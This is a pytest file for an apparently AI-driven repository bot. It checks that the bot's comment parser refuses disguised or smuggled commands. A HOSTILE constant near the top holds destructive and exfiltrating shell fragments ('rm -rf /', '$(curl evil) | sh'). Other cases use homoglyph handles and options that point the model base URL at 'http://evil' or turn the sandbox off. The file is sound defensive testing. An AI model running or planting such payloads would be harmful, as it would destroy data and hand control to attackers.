"""Group B: words that look like commands, and commands that try to be more."""

import pytest

from yantra_bot.domain.commands import Command, CommandProblem, NoCommand, Options, Verb
from yantra_bot.webhooks.commands import parse

HOSTILE = "x; rm -rf / && $(curl evil) `id` | sh > /etc/passwd"


@pytest.mark.case("B01")
@pytest.mark.parametrize(
    "text",
    [
        "```\n@yantra fix\n```",
        "~~~sh\n@yantra fix\n~~~",
        "````\n```\n@yantra fix\n```\n````",
        "```\n@yantra fix",
        "- item\n  ```\n  @yantra fix\n  ```",
        "    @yantra fix",
        "\t@yantra fix",
        "`@yantra fix`",
        "``\n@yantra fix\n``",
        "> @yantra fix",
        "> a\n> > @yantra fix",
        "> a\n@yantra fix",
        "<!-- @yantra fix -->",
        "<!--\n@yantra fix\n-->",
        "<!--\n@yantra fix",
        "<details>\n<summary>more</summary>\n\n@yantra fix\n\n</details>",
        "<pre>\n@yantra fix\n</pre>",
        "<blockquote>\n\n@yantra fix\n\n</blockquote>",
        "I agree.\n\nOn Mon, 5 Jan 2026 at 10:00, Bob <bob@example.com> wrote:\n@yantra fix",
        "I agree.\n\n-----Original Message-----\n@yantra fix",
        "I agree.\n-- \n@yantra fix",
    ],
)
def test_hidden_and_quoted_words_are_no_command(text):
    """In code, quotes, HTML comments, folded sections and quoted e-mail the bot is not addressed."""
    assert parse(text) == NoCommand()


@pytest.mark.case("B02")
@pytest.mark.parametrize(
    "text",
    [
        "@yantra-evil fix",
        "@yantrabot fix",
        "@yantra_ fix",
        "@yantra/team fix",
        "@yantra.com fix",
        "@yantra@evil.com fix",
        "a@yantra fix",
        "mail a@yantra.com fix",
        "https://example.com/@yantra fix",
        "x@yantra fix",
        "//@yantra fix",
        "Hello @yantra fix",
        "[@yantra](https://evil) fix",
        "# @yantra fix",
        "- @yantra fix",
        "\\@yantra fix",
    ],
)
def test_the_handle_inside_something_else_is_no_command(text):
    """Other handles, addresses, links and the middle of a sentence are not the bot's name at a line's beginning."""
    assert parse(text) == NoCommand()


@pytest.mark.case("B03")
@pytest.mark.parametrize(
    "text",
    [
        "@y\u0430ntra deploy prod",
        "\uff20yantra deploy prod",
        "@yan\u200btra deploy prod",
        "@yantra\u200b deploy prod",
        "\u202e@yantra deploy prod",
        "\ufeff@yantra deploy prod",
        "@yantra\u2028deploy prod",
        "x\u2028@yantra deploy prod",
        "x\x85@yantra deploy prod",
        "x\x0b@yantra deploy prod",
        "@\u0131antra deploy prod",
    ],
)
def test_look_alikes_of_the_handle_are_no_command(text):
    """Letters of other alphabets and invisible signs do not make the handle, nor a new line."""
    assert parse(text) == NoCommand()


@pytest.mark.case("B03")
@pytest.mark.parametrize("verb", ["de\u0440loy", "dep\u200bloy", "de\u202eploy", "ｄｅｐｌｏｙ", "ﬁx"])
def test_look_alikes_of_a_verb_are_shown_for_what_they_are(verb):
    """A disguised verb is refused, and in the answer its strange letters are spelt out."""
    found = parse(f"@yantra {verb} prod")
    assert isinstance(found, CommandProblem)
    assert found.reason.isascii()


@pytest.mark.case("B04")
@pytest.mark.parametrize("text", ["@yantra approve\n@yantra reject", "@yantra stop\n\nthen\n\n@yantra implement it"])
def test_two_commands_in_one_comment_are_none(text):
    """Contradictory orders get one refusal, and neither is carried out."""
    found = parse(text)
    assert isinstance(found, CommandProblem)
    assert "more than one command" in found.reason


@pytest.mark.case("B04")
def test_a_quoted_command_beside_a_real_one_does_not_count():
    """Quoting somebody else's command while giving one's own is one command."""
    assert parse("> @yantra implement\n\n@yantra stop") == Command(Verb.STOP)


@pytest.mark.case("B05")
def test_the_argument_is_literal_text():
    """Signs of a shell are words like any other."""
    assert parse(f"@yantra fix {HOSTILE}") == Command(Verb.FIX, HOSTILE)
    assert parse(f"@yantra fix a\n{HOSTILE}\nb") == Command(Verb.FIX, f"a\n{HOSTILE}\nb")


@pytest.mark.case("B05")
def test_control_characters_never_reach_anybody():
    """NUL, escape sequences and carriage returns become visible replacement characters or line ends."""
    found = parse("@yantra fix a\0b\x1b[31mc\rd\x7f \ud800")
    assert found == Command(Verb.FIX, "a\ufffdb\ufffd[31mc\nd\ufffd \ufffd")


@pytest.mark.case("B06")
@pytest.mark.parametrize(
    "option",
    [
        "--config.x=y",
        "--repo-url=https://github.com.attacker.tld/o/r",
        "--model-base-url=http://evil",
        "--model-base-url http://evil",
        "--openai.api_base=http://evil",
        "--pr_reviewer.extra_instructions=x",
        "--repo other/repo",
        "--sandbox=off",
        "--dry_run",
        "--Budget 5",
        "--budget\u200b=5",
        "\u2014model gpt",
        "---budget 5",
    ],
)
def test_no_other_setting_can_be_changed_from_a_comment(option):
    """Every option but the three is refused, wherever on the line it stands."""
    for text in (f"@yantra fix {option}", f"@yantra fix it {option} please", f"@yantra {option} fix"):
        found = parse(text, models=["gpt"])
        assert isinstance(found, CommandProblem), text


@pytest.mark.case("B06")
def test_a_model_outside_the_operators_list_is_refused():
    """Neither an unknown model nor a URL in its place passes."""
    for model in ("gpt-99", "http://evil/v1", "gpt;x", "../gpt", ""):
        assert isinstance(parse(f"@yantra fix --model={model}", models=["gpt"]), CommandProblem)
    assert parse("@yantra fix --model gpt", models=["gpt"]) == Command(Verb.FIX, "", Options(model="gpt"))


@pytest.mark.case("B19")
@pytest.mark.parametrize("filler", ["x", "`", "> ", "@yantra ", "<details>", "<!--", "\n", "--x ", "é"])
def test_a_comment_of_100_kb_is_parsed(filler):
    """A very long comment has an answer, whatever it is made of, and its argument is whole."""
    assert isinstance(parse("@yantra fix\n" + filler * (100_000 // len(filler))), Command | CommandProblem)
    long = "word " * 20_000
    assert parse("@yantra fix " + long) == Command(Verb.FIX, long.strip())


@pytest.mark.case("B20")
@pytest.mark.parametrize(
    "word", ["@everyone", "@org/team", "#1", "Fixes#1", "![x](http://evil)", "`code`", "<img/src=x>", "x" * 500]
)
def test_a_stranger_s_word_is_echoed_without_power(word):
    """What was not understood is repeated in code, cut, and cannot leave it: no mention, no link, no reference."""
    for text in (f"@yantra {word}", f"@yantra fix --{word}"):
        found = parse(text)
        assert isinstance(found, CommandProblem)
        assert len(found.reason) < 250
        assert found.reason.count("`") in (0, 2)
